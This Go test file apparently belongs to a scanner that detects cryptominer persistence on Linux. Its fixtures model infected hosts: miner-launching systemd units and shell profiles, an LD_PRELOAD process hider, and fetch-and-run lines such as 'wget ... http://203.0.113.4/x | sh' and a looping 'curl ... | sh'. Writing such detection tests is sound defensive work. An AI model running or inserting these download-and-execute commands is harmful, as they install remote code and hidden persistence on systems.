package checks

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
)

const passwd = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"

func TestServicesFixtures(t *testing.T) {
	tests := []struct {
		name  string
		tree  map[string]string
		want  []string
		check func(t *testing.T, fs []findings.Finding)
	}{
		{
			// WatchDog: sysupdate.service restarts its miner for ever.
			name: "watchdog unit",
			tree: map[string]string{
				"etc/systemd/system/sysupdate.service":                         "[Unit]\nDescription=System update\n\n[Service]\nExecStart=/etc/.sysupdate/sysupdate\nRestart=always\nRestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n",
				"etc/systemd/system/multi-user.target.wants/sysupdate.service": "->/etc/systemd/system/sysupdate.service",
			},
			want: []string{
				"persistence.services.miner/critical /etc/systemd/system/sysupdate.service:5",
				"persistence.services.hidden_exec/high /etc/systemd/system/sysupdate.service:5",
			},
			check: func(t *testing.T, fs []findings.Finding) {
				f := find(t, fs, "persistence.services.miner", "/etc/systemd/system/sysupdate.service", 5)
				d := f.Evidence.Details
				if d["enabled"] != "yes" || d["restart"] != "always" || d["enabled_by"] != "/etc/systemd/system/multi-user.target.wants/sysupdate.service" ||
					!reflect.DeepEqual(f.Evidence.Paths, []string{"/etc/.sysupdate/sysupdate"}) || f.Evidence.Content != "ExecStart=/etc/.sysupdate/sysupdate" || f.Check != "persistence.services" {
					t.Fatalf("%+v", f.Evidence)
				}
			},
		},
		{
			// Rocke-style .bashrc line starting a miner from /tmp at each login.
			name: "bashrc",
			tree: map[string]string{
				"etc/passwd":        passwd,
				"root/.bashrc":      "# ~/.bashrc\nalias ll='ls -l'\n/tmp/.x/kworkerds &\n",
				"home/bob/.profile": "if [ -n \"$BASH_VERSION\" ]; then\n  . \"$HOME/.bashrc\"\nfi\n",
			},
			want: []string{
				"persistence.startup.miner/critical /root/.bashrc:3",
				"persistence.startup.temp_exec/high /root/.bashrc:3",
			},
			check: func(t *testing.T, fs []findings.Finding) {
				if !reflect.DeepEqual(fs[0].Evidence.Paths, []string{"/tmp/.x/kworkerds"}) || fs[0].Evidence.Content != "/tmp/.x/kworkerds &" {
					t.Fatalf("%+v", fs[0].Evidence)
				}
			},
		},
		{
			name: "sysv rc.local environment autostart",
			tree: map[string]string{
				"etc/passwd":                             passwd,
				"etc/init.d/netsync":                     "#!/bin/sh\n### BEGIN INIT INFO\ncase \"$1\" in\nstart)\n  wget -q -O- http://203.0.113.4/x | sh\n  ;;\nesac\n",
				"etc/rc2.d/S01netsync":                   "->../init.d/netsync",
				"etc/rc3.d/S99x":                         "->/var/tmp/.d/x",
				"etc/rc.local":                           "#!/bin/sh -e\nnohup /var/tmp/.sys/dbused >/dev/null 2>&1 &\nexit 0\n",
				"etc/environment":                        "PATH=\"/usr/bin:/bin\"\nLD_PRELOAD=/usr/local/lib/libprocesshider.so\n",
				"home/bob/.config/autostart/upd.desktop": "[Desktop Entry]\nType=Application\nName=upd\nExec=/home/bob/.local/share/.u/upd %U\n",
			},
			want: []string{
				"persistence.services.download_exec/high /etc/init.d/netsync:5",
				"persistence.services.ip_url/medium /etc/init.d/netsync:5",
				"persistence.services.temp_exec/high /etc/rc3.d/S99x:0",
				"persistence.startup.miner/critical /etc/rc.local:2",
				"persistence.startup.temp_exec/high /etc/rc.local:2",
				"persistence.startup.ld_preload/high /etc/environment:2",
				"persistence.startup.hidden_exec/high /home/bob/.config/autostart/upd.desktop:4",
			},
			check: func(t *testing.T, fs []findings.Finding) {
				f := find(t, fs, "persistence.startup.ld_preload", "/etc/environment", 2)
				if f.Signal != findings.SignalHiding || !reflect.DeepEqual(f.Evidence.Paths, []string{"/usr/local/lib/libprocesshider.so"}) {
					t.Fatalf("%+v", f)
				}
			},
		},
		{
			name: "re-download loop in a user unit",
			tree: map[string]string{
				"etc/passwd": passwd,
				"home/bob/.config/systemd/user/agent.service": "[Service]\n# keeps itself fresh\nExecStart=/bin/sh -c 'while true; do curl -s https://cdn.example.org/a | sh; sleep 600; done'\nRestart=always\n",
			},
			want: []string{
				"persistence.services.download_exec/high /home/bob/.config/systemd/user/agent.service:3",
				"persistence.services.loop/high /home/bob/.config/systemd/user/agent.service:3",
			},
		},
		{
			// Admin: a Jupyter unit, an enabled package unit, a drop-in; a dpkg
			// database makes the unpackaged jupyter binary a low hint only.
			name: "admin",
			tree: map[string]string{
				"etc/passwd":                         passwd,
				"etc/systemd/system/jupyter.service": "[Unit]\nDescription=Jupyter\n[Service]\nUser=bob\nExecStart=/opt/conda/bin/jupyter lab --ip=0.0.0.0 --port=8888 --no-browser\nWorkingDirectory=/home/bob\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
				"etc/systemd/system/multi-user.target.wants/jupyter.service": "->/etc/systemd/system/jupyter.service",
				"opt/conda/bin/jupyter":                           "#!/opt/conda/bin/python\n",
				"lib/systemd/system/cron.service":                 "[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\nIgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\n",
				"usr/sbin/cron":                                   "bin",
				"etc/systemd/system/cron.service.d/override.conf": "[Service]\nExecStartPre=-/bin/mkdir -p /var/tmp/cron-cache\n",
				"var/lib/dpkg/info/cron.list":                     "/.\n/lib/systemd/system/cron.service\n/usr/sbin/cron\n",
				"home/bob/.bashrc":                                "export PATH=$HOME/.local/bin:$PATH\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\neval \"$(/opt/conda/bin/conda shell.bash hook)\"\n",
			},
			want: []string{"persistence.services.unpackaged/low /etc/systemd/system/jupyter.service:5"},
			check: func(t *testing.T, fs []findings.Finding) {
				if fs[0].Evidence.Details["enabled"] != "yes" || !reflect.DeepEqual(fs[0].Evidence.Paths, []string{"/opt/conda/bin/jupyter"}) {
					t.Fatalf("%+v", fs[0].Evidence)
				}
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env, _ := treeEnv(t, tc.tree)
			fs := runCheck(t, env, "persistence.services")
			wantKeys(t, fs, tc.want)
			if tc.check != nil {
				tc.check(t, fs)
			}
		})
	}
}

// TestServicesRealHost copies this machine's units, init scripts,
// profiles and dpkg file lists into a fixture root: a real Debian system
// gives nothing of medium or more.
func TestServicesRealHost(t *testing.T) {
	if _, err := os.Stat("/lib/systemd/system"); err != nil {
		t.Skip("no systemd units on this machine")
	}
	root := t.TempDir()
	copyHostTree(t, root, "/lib/systemd", "/usr/lib/systemd/system", "/etc/systemd", "/etc/init.d", "/etc/rc0.d", "/etc/rc2.d", "/etc/rc3.d", "/etc/rcS.d",
		"/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/etc/environment", "/etc/xdg", "/etc/passwd", "/root/.bashrc", "/root/.profile", "/var/lib/dpkg/info")
	env, _ := offlineEnvAt(t, root)
	fs := runCheck(t, env, "persistence.services")
	for _, f := range fs {
		if f.Severity >= findings.Medium {
			t.Errorf("%s %s %s:%d %q", f.Rule, f.Severity, f.Evidence.Path, f.Evidence.Line, f.Evidence.Content)
		}
	}
	// The units really were read: copy a known one's ExecStart into a
	// unit of our own in /tmp and it is reported.
	n := 0
	es, _ := os.ReadDir(filepath.Join(root, "lib/systemd/system"))
	for _, e := range es {
		if strings.HasSuffix(e.Name(), ".service") {
			n++
		}
	}
	if n < 10 {
		t.Skipf("only %d units copied", n)
	}
}

func TestParseUnit(t *testing.T) {
	got := ParseUnit("# c\n[Unit]\nDescription = x \n; c\n[Service]\nExecStart=/bin/sh -c 'a \\\n  b' \\\n  c\nbad\n[X]\nK=\n")
	want := []unitEntry{
		{section: "Unit", key: "Description", value: "x", line: 3},
		{section: "Service", key: "ExecStart", value: "/bin/sh -c 'a  b'  c", line: 6},
		{section: "X", key: "K", value: "", line: 11},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("%+v", got)
	}
	for in, out := range map[string]string{"-/bin/x a": "/bin/x a", "@/bin/x name a b": "/bin/x a b", "+!!/bin/y %%i": "/bin/y %i", ":": ""} {
		if g := unitCommand(in); g != out {
			t.Errorf("unitCommand(%q) = %q want %q", in, g, out)
		}
	}
}

func FuzzParseUnit(f *testing.F) {
	f.Add("[Service]\nExecStart=/bin/sh -c 'x \\\ny'\n[")
	f.Fuzz(func(t *testing.T, s string) {
		for _, e := range ParseUnit(s) {
			if e.line < 1 || e.line > strings.Count(s, "\n")+1 {
				t.Fatalf("line %d", e.line)
			}
		}
		_ = unitCommand(s)
	})
}
